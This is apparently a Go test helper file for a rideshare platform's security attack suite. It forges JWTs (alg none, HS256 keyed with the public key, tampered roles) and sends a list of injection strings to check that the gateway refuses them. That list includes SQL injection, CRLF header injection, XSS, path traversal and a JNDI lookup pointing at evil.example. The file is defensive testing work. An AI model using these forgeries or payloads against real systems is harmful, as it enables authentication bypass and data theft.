package main

import (
	"bufio"
	"context"
	"crypto/ecdsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"

	"github.com/rideshare-platform/rideshare/internal/gateway"
	"github.com/rideshare-platform/rideshare/internal/sqldb"
)

// attacker runs the attack suite against a platform. Every request goes
// through send, which fails the test on any 5xx whatever the case expected,
// and every assertion through expect, which counts cases.
type attacker struct {
	t *testing.T
	p *runningPlatform
	// limited says the platform runs with lowered rate limits; otherwise
	// a 429 fails the test, since the defaults must be out of the suite's
	// reach and a limited request tests nothing.
	limited bool

	mu            sync.Mutex
	tried, passed int
}

// expect records one case; ok false fails the test with the message.
func (a *attacker) expect(ok bool, format string, args ...any) bool {
	a.t.Helper()
	a.mu.Lock()
	a.tried++
	if ok {
		a.passed++
	}
	a.mu.Unlock()
	if !ok {
		a.t.Errorf(format, args...)
	}
	return ok
}

// known records a case that is expected to fail (a known bug elsewhere):
// it is tried, not passed, and logged; if it passes, the entry is stale and
// the test fails so that it is removed.
func (a *attacker) known(ok bool, format string, args ...any) {
	a.t.Helper()
	a.mu.Lock()
	a.tried++
	a.mu.Unlock()
	if ok {
		a.t.Errorf("fixed, remove it from knownLeaks: "+format, args...)
		return
	}
	a.t.Logf("KNOWN LEAK: "+format, args...)
}

// send is tryDo that never stops the goroutine it runs in (safe from
// workers) and flags any 5xx: no attack may make the platform fail.
func (a *attacker) send(method, path, token string, body any, header ...string) response {
	a.t.Helper()
	r, err := a.p.tryDo(method, path, token, body, header...)
	if err != nil {
		a.t.Errorf("%s %.80s: %v", method, path, err)
		return response{status: -1}
	}
	a.check(method, path, r)
	return r
}

// check fails the test on a 5xx, and on a 429 unless limits were lowered.
func (a *attacker) check(method, path string, r response) {
	a.t.Helper()
	if r.status >= 500 || (r.status == http.StatusTooManyRequests && !a.limited) {
		a.t.Errorf("%s %.80s: %d %.300s", method, path, r.status, r.body)
	}
}

// code is the problem+json code of r, or "" when r is not a problem.
func (r response) code() string {
	if r.header.Get("Content-Type") != "application/problem+json" {
		return ""
	}
	var p struct{ Code string }
	_ = json.Unmarshal(r.body, &p)
	return p.Code
}

func (a *attacker) report() {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.t.Logf("attack suite: %d cases tried, %d passed", a.tried, a.passed)
}

// fill puts a real ride id into a route's path; any other parameter is one
// this suite does not know how to fill, which must be added here the day
// such a route is.
func fill(t *testing.T, rt gateway.RouteInfo, rideID string) string {
	t.Helper()
	path := strings.ReplaceAll(rt.Path, "{id}", rideID)
	if strings.Contains(path, "{") {
		t.Fatalf("%s %s has a path parameter the attack suite cannot fill: teach fill() about it", rt.Method, rt.Path)
	}
	return path
}

// takesBody reports whether the route reads a JSON body: the table says so
// by answering 413.
func takesBody(rt gateway.RouteInfo) bool {
	return slices.Contains(rt.Statuses, http.StatusRequestEntityTooLarge)
}

func allows(rt gateway.RouteInfo, role string) bool { return slices.Contains(rt.Roles, role) }

// forger makes tokens exactly as identity does, from a real access token's
// header and claims and identity's own signing key, so that each forgery
// differs from a token the gateway accepts in one respect only.
type forger struct {
	key    *ecdsa.PrivateKey
	header map[string]any
	claims map[string]any
}

// newForger reads the key that signed token from identity's database in
// the platform's data folder (the signing_keys table of
// internal/identity/keys.go).
func newForger(t *testing.T, dataDir, token string) *forger {
	t.Helper()
	f := &forger{header: segment(t, token, 0), claims: segment(t, token, 1)}
	kid, _ := f.header["kid"].(string)
	if kid == "" {
		t.Fatalf("identity's access token has no kid: %v", f.header)
	}
	db, err := sqldb.Open(context.Background(), filepath.Join(dataDir, "identity.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var pemKey string
	if err := db.Reader().QueryRow(`SELECT private_key FROM signing_keys WHERE kid = $1`, kid).Scan(&pemKey); err != nil {
		t.Fatalf("identity's signing key %s: %v", kid, err)
	}
	block, _ := pem.Decode([]byte(pemKey))
	if block == nil {
		t.Fatalf("signing key %s is not PEM", kid)
	}
	k, err := x509.ParsePKCS8PrivateKey(block.Bytes)
	if err != nil {
		t.Fatalf("signing key %s: %v", kid, err)
	}
	f.key = k.(*ecdsa.PrivateKey)
	return f
}

func segment(t *testing.T, token string, i int) map[string]any {
	t.Helper()
	parts := strings.Split(token, ".")
	if len(parts) != 3 {
		t.Fatalf("not a JWS: %.40s", token)
	}
	b, err := base64.RawURLEncoding.DecodeString(parts[i])
	if err != nil {
		t.Fatal(err)
	}
	m := map[string]any{}
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	return m
}

// edit copies m with kv applied; a nil value deletes the key.
func edit(m map[string]any, kv ...any) map[string]any {
	out := map[string]any{}
	for k, v := range m {
		out[k] = v
	}
	for i := 0; i+1 < len(kv); i += 2 {
		if kv[i+1] == nil {
			delete(out, kv[i].(string))
		} else {
			out[kv[i].(string)] = kv[i+1]
		}
	}
	return out
}

// sign signs claims with identity's key under header.
func (f *forger) sign(t *testing.T, header, claims map[string]any) string {
	t.Helper()
	tok := jwt.NewWithClaims(jwt.SigningMethodES256, jwt.MapClaims(claims))
	tok.Header = header
	s, err := tok.SignedString(f.key)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func b64JSON(v any) string {
	b, _ := json.Marshal(v)
	return base64.RawURLEncoding.EncodeToString(b)
}

// forgeries are the ways to make a token that must not pass, each named.
// control is the unmodified re-signed token, which must pass: it proves the
// forger signs as identity does, so each refusal is the gateway's check.
func (f *forger) forgeries(t *testing.T, real, idToken string, jwks []byte) (control string, out []struct{ name, token string }) {
	t.Helper()
	now := time.Now()
	h, c := f.header, f.claims
	parts := strings.Split(real, ".")
	pubDER, err := x509.MarshalPKIXPublicKey(&f.key.PublicKey)
	if err != nil {
		t.Fatal(err)
	}
	pubPEM := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pubDER})
	hmac := func(secret []byte) string {
		tok := jwt.NewWithClaims(jwt.SigningMethodHS256, jwt.MapClaims(c))
		tok.Header = edit(h, "alg", "HS256")
		s, err := tok.SignedString(secret)
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	sig, _ := base64.RawURLEncoding.DecodeString(parts[2])
	sig[len(sig)/2] ^= 1
	add := func(name, token string) { out = append(out, struct{ name, token string }{name, token}) }
	add("alg none", b64JSON(edit(h, "alg", "none"))+"."+parts[1]+".")
	add("alg none, signature kept", b64JSON(edit(h, "alg", "none"))+"."+parts[1]+"."+parts[2])
	add("HS256 keyed with the public key (PEM)", hmac(pubPEM))
	add("HS256 keyed with the public key (DER)", hmac(pubDER))
	add("HS256 keyed with the JWKS", hmac(jwks))
	add("tampered payload (role admin)", parts[0]+"."+b64JSON(edit(c, "role", "admin"))+"."+parts[2])
	add("tampered payload (other subject)", parts[0]+"."+b64JSON(edit(c, "sub", "someone-else"))+"."+parts[2])
	add("wrong issuer", f.sign(t, h, edit(c, "iss", "https://evil.example.com")))
	add("wrong audience", f.sign(t, h, edit(c, "aud", []string{"rideshare-cli"})))
	add("no audience", f.sign(t, h, edit(c, "aud", nil)))
	add("expired", f.sign(t, h, edit(c, "exp", now.Add(-time.Hour).Unix(), "iat", now.Add(-2*time.Hour).Unix(), "nbf", now.Add(-2*time.Hour).Unix())))
	add("no expiry", f.sign(t, h, edit(c, "exp", nil)))
	add("not valid before an hour from now", f.sign(t, h, edit(c, "nbf", now.Add(time.Hour).Unix())))
	add("issued an hour from now", f.sign(t, h, edit(c, "iat", now.Add(time.Hour).Unix())))
	add("unknown kid", f.sign(t, edit(h, "kid", "forged-kid"), c))
	add("no kid", f.sign(t, edit(h, "kid", nil), c))
	add("no jti", f.sign(t, h, edit(c, "jti", nil)))
	add("no role", f.sign(t, h, edit(c, "role", nil)))
	add("service role", f.sign(t, h, edit(c, "role", "service")))
	add("flipped signature bit", parts[0]+"."+parts[1]+"."+base64.RawURLEncoding.EncodeToString(sig))
	add("an ID token", idToken)
	return f.sign(t, h, c), out
}

// idToken signs in with the openid scope and returns the ID token identity
// issues beside the access token.
func (p *runningPlatform) idToken(email, password string) string {
	p.t.Helper()
	r := p.do("POST", "/oauth2/token", "", url.Values{
		"grant_type": {"password"}, "client_id": {"rideshare-cli"}, "username": {email}, "password": {password}, "scope": {"openid"},
	})
	id, _ := r.json(p.t)["id_token"].(string)
	if r.status != http.StatusOK || id == "" {
		p.t.Fatalf("password grant with scope openid: %d %s", r.status, r.body)
	}
	return id
}

// adminToken is the operator client's token (role admin).
func (p *runningPlatform) adminToken() string {
	p.t.Helper()
	return p.clientToken(p.state.ClientID, p.state.ClientSecret)
}

// clientToken is an access token from the client-credentials grant.
func (p *runningPlatform) clientToken(id, secret string) string {
	p.t.Helper()
	r := p.do("POST", "/oauth2/token", "", url.Values{"grant_type": {"client_credentials"},
		"client_id": {id}, "client_secret": {secret}})
	tok, _ := r.json(p.t)["access_token"].(string)
	if r.status != http.StatusOK || tok == "" {
		p.t.Fatalf("client credentials of %s: %d %s", id, r.status, r.body)
	}
	return tok
}

// raw sends bytes to the gateway over a fresh TCP connection and reads
// until the server closes it or deadline passes. closed says which.
func (p *runningPlatform) raw(send []byte, deadline time.Duration) (got []byte, closed bool, err error) {
	u, err := url.Parse(p.state.GatewayURL)
	if err != nil {
		return nil, false, err
	}
	conn, err := net.Dial("tcp", u.Host)
	if err != nil {
		return nil, false, err
	}
	defer conn.Close()
	if _, err := conn.Write(send); err != nil {
		return nil, false, err
	}
	_ = conn.SetReadDeadline(time.Now().Add(deadline))
	got, err = io.ReadAll(conn)
	if ne, ok := err.(net.Error); ok && ne.Timeout() {
		return got, false, nil
	}
	// A reset after the answer is a close too.
	return got, true, nil
}

// rawStatus is the status code of an HTTP/1.1 answer in b, or 0.
func rawStatus(b []byte) int {
	line, _, _ := bufio.NewReader(strings.NewReader(string(b))).ReadLine()
	var code int
	if _, err := fmt.Sscanf(string(line), "HTTP/1.1 %d", &code); err != nil {
		return 0
	}
	return code
}

// oddStrings are 200 strings that have broken other systems: SQL and
// template injection, quotes and escapes, NUL and control characters,
// bidirectional overrides, combining marks, emoji, invalid UTF-8, and 10 KB
// runs.
func oddStrings() []string {
	base := []string{
		`'`, `''`, `"`, `\`, `\\`, "`", `' OR 1=1 --`, `' OR '1'='1`, `" OR ""="`, `1' OR '1'='1' /*`,
		`'; DROP TABLE rides; --`, `"; DROP TABLE accounts; --`, `'); DELETE FROM signing_keys; --`,
		`' UNION SELECT private_key FROM signing_keys --`, `1; SELECT pg_sleep(10) --`, `' AND sqlite_version() --`,
		`admin'--`, `%`, `_`, `%_%`, `$1`, `?`, `:name`, `@p1`, `\x00`, "\x00", "a\x00b", "\x1b[31mred\x1b[0m",
		"\r\nSet-Cookie: pwned=1", "\u202eevil\u202c", "\u200f\u200e\u200b", "\ufeffbom", "😀", "👨‍👩‍👧‍👦",
		"Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334", "名前", "עברית", "العربية", "\xff\xfe", "\xc3\x28",
		`<script>alert(1)</script>`, `{{7*7}}`, `${jndi:ldap://evil.example/a}`, `../../etc/passwd`, `%00`, `%n%s%x`,
		`null`, `true`, `0`, `-1`, `1e309`, `NaN`, ` `, "\t", `{"$gt":""}`, `[]`, `card_declined`, `card_declined' --`,
		strings.Repeat("x", 10<<10), strings.Repeat("😀", 2600), strings.Repeat(`'`, 1000), strings.Repeat("\u202e", 100),
	}
	seen := map[string]bool{}
	var out []string
	add := func(s string) {
		if !seen[s] && len(out) < 200 {
			seen[s] = true
			out = append(out, s)
		}
	}
	for _, wrap := range []func(string) string{
		func(s string) string { return s },
		func(s string) string { return "Ada " + s },
		func(s string) string { return s + " Lovelace" },
		func(s string) string { return " " + s + " " },
	} {
		for _, s := range base {
			add(wrap(s))
		}
	}
	return out
}
